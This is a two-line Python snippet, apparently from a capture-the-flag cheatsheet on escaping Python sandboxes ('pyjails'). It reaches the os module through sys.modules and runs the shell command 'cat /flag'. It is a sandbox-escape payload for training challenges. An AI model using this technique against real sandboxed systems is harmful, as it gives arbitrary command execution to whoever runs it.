# Source: https://github.com/salvatore-abello/python-ctf-cheatsheet/blob/main/pyjails/README.md (sys.modules)
from sys import modules
modules["os"].system("cat /flag")
